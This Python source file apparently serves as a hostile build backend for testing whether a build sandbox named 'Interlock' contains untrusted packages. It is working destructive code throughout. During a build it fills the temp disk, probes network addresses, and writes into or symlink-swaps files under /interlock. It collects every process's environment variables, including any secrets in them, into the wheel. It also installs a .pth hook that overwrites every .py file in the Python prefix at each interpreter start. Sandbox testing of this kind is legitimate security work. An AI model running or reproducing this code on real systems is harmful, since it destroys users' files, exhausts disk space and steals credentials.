"""A build backend that harms whatever it can reach, and packs what came of it into its wheel.

``orders.json`` beside it says which addresses to try, and whether to fill every folder first.
"""

import base64
import hashlib
import json
import os
import socket
import tempfile
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
INFO = "harms_while_built-1.dist-info"

# Run by every start of a Python that reads site-packages, if any does.
PTH = (
    "import sys, pathlib; "
    "[path.write_text('harmed') for path in pathlib.Path(sys.prefix).rglob('*.py')]\n"
)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    orders = json.loads((HERE / "orders.json").read_text())
    if orders["fill"]:
        fill(Path(tempfile.gettempdir()))
    members = {
        "harms_while_built.py": "",
        "harms_while_built.json": json.dumps(harm(orders["addresses"])),
        "harms_while_built.pth": PTH,
        INFO + "/METADATA": "Metadata-Version: 2.1\nName: harms-while-built\nVersion: 1\n",
        INFO + "/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    members[INFO + "/RECORD"] = "".join(map(record, members, members.values()))
    name = "harms_while_built-1-py3-none-any.whl"
    with zipfile.ZipFile(Path(wheel_directory, name), "w") as wheel:
        for path, text in members.items():
            wheel.writestr(path, text)
    return name


def record(name, text):
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(text)}\n"


def fill(folder):
    with (folder / "filler").open("wb") as file:
        while True:
            file.write(bytes(1 << 20))
            file.flush()


def harm(addresses):
    """What it could do; every list is empty where it could do nothing."""
    return {
        "reached": [address for address in addresses if reached(*address)],
        "resolved": [name for name in ("pypi.org", "localhost.localdomain") if resolved(name)],
        "written": [str(place) for place in places() if written(place)],
        "swapped": [str(place) for place in places() if swapped(place)],
        "seen": [*os.environ.values(), *environments()],
    }


def places():
    """Everything that is shown of Interlock."""
    for folder, inner, files in os.walk("/interlock"):
        for name in inner + files:
            yield Path(folder, name)


def reached(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
        return True
    except OSError:
        return False


def resolved(name):
    try:
        return bool(socket.gethostbyname(name))
    except OSError:
        return False


def written(place):
    try:
        if place.is_dir():
            (place / "harmed").write_text("harmed")
        else:
            with place.open("ab") as file:
                file.write(b"harmed")
        return True
    except OSError:
        return False


def swapped(place):
    """A folder of the store, renamed and replaced by a link to somewhere of the host."""
    try:
        place.rename(str(place) + "-moved")
        place.symlink_to("/etc")
        return True
    except OSError:
        return False


def environments():
    """The environment of every process that can be seen, as a password may be in one."""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            yield (process / "environ").read_bytes().decode(errors="replace")
        except OSError:
            continue
